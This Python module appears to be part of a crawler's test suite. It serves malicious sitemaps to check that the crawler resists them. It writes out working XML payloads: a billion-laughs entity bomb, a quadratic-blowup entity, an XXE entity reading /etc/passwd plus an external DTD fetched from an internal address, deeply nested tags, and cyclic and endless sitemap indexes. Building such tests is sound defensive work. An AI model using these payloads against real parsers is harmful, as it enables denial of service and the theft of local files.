"""Sitemaps: XML bombs, files of ours as entities, indexes that name themselves, and indexes that name another for ever."""

import asyncio

from gossamer.simweb.attacks.attack import Attack, ExpectedEnd, Voice, routing, saying, whole

_SCHEMA = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
_LAUGHS = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
_NAP = f'<!ENTITY nap "{"z" * 3000}">'
_FILE = '<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY % more SYSTEM "http://10.1.0.1/more.dtd"> %more;'
DEEPEST = 15  # hops that are followed


def attacks() -> list[Attack]:
    """List the attacks of this family."""
    return [
        _with_doctype("sitemap-laughs", _LAUGHS, "&l9;"),
        _with_doctype("sitemap-quadratic", _NAP, "&nap;" * 300_000),
        _with_doctype("sitemap-file", _FILE, "/&file;"),
        _with_sitemap("sitemap-deep", b"<urlset>" + b"<url>" * 200_000),
        _with_sitemap("sitemap-locs", b"<urlset><url>" + b"<loc>" * 200_000),
        _circle(),
        _endless(),
    ]


def _robots() -> Voice:
    """Name the sitemap by the host that was asked, whatever its port."""
    text = b"User-agent: *\nSitemap: /sitemap.xml\n"
    return saying(whole(text, mime="text/plain"))


def _xml(*items: str, root: str = "sitemapindex", doctype: str = "") -> bytes:
    item = "sitemap" if root == "sitemapindex" else "url"
    places = "".join(f"<{item}><loc>{place}</loc></{item}>" for place in items)
    declared = f"<!DOCTYPE {root} [{doctype}]>" if doctype else ""
    return f'<?xml version="1.0"?>{declared}<{root} {_SCHEMA}>{places}</{root}>'.encode()


def _with_sitemap(name: str, sitemap: bytes, *ends: ExpectedEnd) -> Attack:
    root = whole(f"<title>{name}</title>".encode())
    routes: dict[str, bytes | Voice] = {
        "/": root,
        "/sitemap.xml": whole(sitemap, mime="application/xml"),
        "/found": whole(f"found by {name}".encode()),
    }
    return Attack(name, routing(routes), (ExpectedEnd("/"), ExpectedEnd("/sitemap.xml"), *ends), robots=_robots())


def _with_doctype(name: str, doctype: str, place: str) -> Attack:
    """Name a plain page, then one by way of an entity."""
    return _with_sitemap(name, _xml("/found", place, root="urlset", doctype=doctype), ExpectedEnd("/found"))


def _circle() -> Attack:
    """Let indexes name themselves and each other."""
    routes: dict[str, bytes | Voice] = {
        "/": whole(b"<title>circle</title>"),
        "/sitemap.xml": whole(_xml("/sitemap.xml", "/a.xml"), mime="application/xml"),
        "/a.xml": whole(_xml("/b.xml", "/sitemap.xml"), mime="application/xml"),
        "/b.xml": whole(_xml("/a.xml"), mime="application/xml"),
    }
    return Attack("sitemap-circle", routing(routes), tuple(map(ExpectedEnd, routes)), robots=_robots())


def _endless() -> Attack:
    """Let every index name a new one: each is a hop further away."""

    async def voice(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, path: str) -> None:
        number = int("".join(filter(str.isdigit, path)) or "0")
        await saying(whole(_xml(f"/{number + 1}.xml"), mime="application/xml"))(reader, writer, path)

    followed = [ExpectedEnd("/sitemap.xml"), *(ExpectedEnd(f"/{number}.xml") for number in range(1, DEEPEST + 1))]
    last = ExpectedEnd(f"/{DEEPEST + 1}.xml", "out_of_scope", rule="scope.max_depth", status=0)
    root = whole(b"<title>endless</title>")
    return Attack(
        "sitemap-endless", routing({"/": root}, otherwise=voice), (ExpectedEnd("/"), *followed, last), robots=_robots()
    )
